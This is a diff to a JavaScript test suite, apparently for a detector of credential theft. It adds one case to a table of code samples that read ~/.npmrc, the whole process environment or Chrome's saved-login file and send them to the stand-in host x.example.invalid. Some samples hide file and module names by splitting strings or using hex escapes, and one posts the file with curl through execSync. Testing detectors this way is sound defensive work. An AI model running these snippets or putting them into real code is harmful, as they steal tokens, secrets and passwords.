@@ -48,6 +48,7 @@ describe('credentials and the network, however they are named', () => {
     ['the file name in pieces', `const fs=require('fs'),os=require('os'),path=require('path'),h=require('https');\nconst t=fs.readFileSync(path.join(os.homedir(),'.np'+'mrc'),'utf8');\nh.request({hostname:'x.example.invalid'}).end(t);`],
     ['names in hex escapes, module in pieces', `var d=require('fs')['readFileSync'](require('os')['homedir']()+'/\\x2e\\x6e\\x70\\x6d\\x72\\x63');\nrequire('ht'+'tps')['req'+'uest']({hostname:'x.example.invalid'})['end'](d);`],
     ['the whole environment, spread', `fetch('https://x.example.invalid/e',{method:'POST',body:JSON.stringify({...process.env})});`],
+    ['the whole environment copied, then serialised', `const {request}=require('https');\nconst env={...process.env};\nrequest({hostname:'x.example.invalid',method:'POST'}).end(Buffer.from(JSON.stringify(env)).toString('base64'));`],
     ['curl posting ~/.npmrc from execSync', `const {execSync}=require('child_process');\nexecSync('curl -s -X POST --data-binary @$HOME/.npmrc https://x.example.invalid/c');`],
     ['a browser\'s saved logins', `const fs=require('fs');\nconst db=fs.readFileSync(process.env.HOME+'/.config/google-chrome/Default/Login Data');\nfetch('https://x.example.invalid/u',{method:'POST',body:db});`],
   ])('%s', (_, text) => {
